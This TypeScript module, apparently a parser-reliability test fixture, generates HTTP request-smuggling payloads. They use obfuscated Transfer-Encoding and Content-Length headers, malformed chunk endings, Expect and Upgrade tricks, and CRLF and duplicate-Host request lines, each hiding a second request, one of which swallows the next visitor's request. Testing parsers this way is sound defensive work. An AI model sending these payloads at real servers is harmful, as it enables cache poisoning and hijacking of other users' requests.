/** Requests that two parsers may cut differently (RELIABILITY H38 to H53, A15): each hides a second one. */

export interface Attack {
  name: string;
  bytes: string;
  /** The hidden request is an honest second one to every parser, so its answer on this connection is right. */
  pipelined?: boolean;
}

const END = "\r\n\r\n";

/** The hidden request: whole, or one that swallows what the next visitor sends as a header of its own. */
const hidden = (host: string): Record<string, string> => ({
  whole: `GET /poison HTTP/1.1\r\nHost: ${host}${END}`,
  open: `GET /poison HTTP/1.1\r\nHost: ${host}\r\nX-Swallowed: `,
});

const TRANSFER_ENCODINGS = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding:chunked",
  "transfer-encoding: CHUNKED",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: identity",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: chunked\x00",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\x00: chunked",
  "Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
];

const lengths = (n: number): string[] => [
  `Content-Length: 0\r\nContent-Length: ${n}`,
  `Content-Length: ${n}\r\nContent-Length: 0`,
  `Content-Length: 0, ${n}`,
  `Content-Length: +${n}`,
  `Content-Length: 0x${n.toString(16)}`,
  `Content-Length: -${n}`,
  `Content-Length: ${n}.0`,
  `Content-Length: ${n};`,
  `Content-Length: `,
  `Content-Length : ${n}`,
  `Content-Length:\x0b${n}`,
  `Content_Length: ${n}`,
  `X: y\nContent-Length: ${n}`,
  `X: y\r\n Content-Length: ${n}`,
  `Content-Length\x00: ${n}`,
  `Content-Length: 1844674407370955161${6 + n}`,
  `Connection: close, Content-Length\r\nContent-Length: ${n}`,
];

const CHUNKED_ENDS = [
  "0x0\r\n\r\n",
  "-0\r\n\r\n",
  "+0\r\n\r\n",
  " 0\r\n\r\n",
  "0 \r\n\r\n",
  "0\n\n",
  "0\r\n\n",
  "0;a\nb\r\n\r\n",
  '0;a="\r\n\r\n"\r\n\r\n',
  "00000000000000000000\r\n\r\n",
  "10000000000000000\r\n\r\n",
  "3\r\nabcd0\r\n\r\n",
  "3\nabc\n0\n\n",
  "3\r\nabc0\r\n\r\n",
  "0\r\nContent-Length: 5\r\n\r\n",
  "0\r\nHost: other\r\n\r\n",
  "0\r\n",
  "g\r\n\r\n",
  "\r\n0\r\n\r\n",
];

/** What hides it: the host it is sent to, another's host, and the hidden request. */
interface Hiding {
  kind: string;
  host: string;
  victim: string;
  inner: string;
}

const post = (host: string, headers: string): string => `POST /who HTTP/1.1\r\nHost: ${host}\r\n${headers}${END}`;
const chunkOf = (inner: string): string => `${inner.length.toString(16)}\r\n${inner}\r\n0${END}`;

/** Two words for how long the body is, of which one may be overlooked. */
const byTransferEncoding = ({ kind, host, inner }: Hiding): Attack[] =>
  TRANSFER_ENCODINGS.flatMap((header) => {
    const name = `${kind}, ${JSON.stringify(header)}`;
    const all = post(host, `Content-Length: ${5 + inner.length}\r\n${header}`);
    return [
      { name: `${name}, length counts all`, bytes: `${all}0${END}${inner}` },
      { name: `${name}, length counts less`, bytes: post(host, `Content-Length: 4\r\n${header}`) + chunkOf(inner) },
      { name: `${name}, no length`, bytes: post(host, header) + chunkOf(inner), pipelined: true },
    ];
  });

const byLength = ({ kind, host, inner }: Hiding): Attack[] =>
  lengths(inner.length).map((header) => ({
    name: `${kind}, ${JSON.stringify(header)}`,
    bytes: post(host, header) + inner,
    pipelined: true,
  }));

const byChunks = ({ kind, host, inner }: Hiding): Attack[] =>
  CHUNKED_ENDS.map((end) => ({
    name: `${kind}, chunks ${JSON.stringify(end)}`,
    bytes: post(host, "Transfer-Encoding: chunked") + end + inner,
    pipelined: true,
  }));

const byMethod = ({ kind, host, inner }: Hiding): Attack[] =>
  ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE"].flatMap((method) => {
    const line = `${method} /who HTTP/1.1\r\nHost: ${host}\r\n`;
    return [
      { name: `${kind}, a body on ${method}`, bytes: `${line}Content-Length: ${inner.length}${END}${inner}` },
      { name: `${kind}, chunks on ${method}`, bytes: `${line}Transfer-Encoding: chunked${END}${chunkOf(inner)}` },
    ];
  });

/** Headers after which some read no body. */
const byExpectation = ({ kind, host, inner }: Hiding): Attack[] =>
  [
    "Expect: 100-continue",
    "Expect: x 100-continue",
    "Connection: upgrade\r\nUpgrade: websocket",
    "Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
  ].map((header) => ({
    name: `${kind}, ${JSON.stringify(header)}`,
    bytes: post(host, `${header}\r\nContent-Length: ${inner.length}`) + inner,
  }));

const byRequestLine = ({ kind, host, victim, inner }: Hiding): Attack[] =>
  [
    `POST /who HTTP/1.0\r\nHost: ${host}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked${END}0${END}`,
    `GET /who\r\n`,
    `GET /who HTTP/1.1\r\nHost: ${host}\r\nHost: ${victim}${END}`,
    `GET http://${victim}/who HTTP/1.1\r\nHost: ${host}${END}`,
    `GET /who HTTP/1.1\nHost: ${host}\n\n`,
    `GET /who%0d%0aHost:%20${victim} HTTP/1.1\r\nHost: ${host}${END}`,
    `GET /who HTTP/1.1\r\nHost: ${host}${END}`,
  ].map((first) => ({ name: `${kind}, ${JSON.stringify(first)}`, bytes: first + inner, pipelined: true }));

const WAYS = [byTransferEncoding, byLength, byChunks, byMethod, byExpectation, byRequestLine];

export const attacks = (host: string, victim: string): Attack[] =>
  Object.entries(hidden(host)).flatMap(([kind, inner]) => WAYS.flatMap((way) => way({ kind, host, victim, inner })));
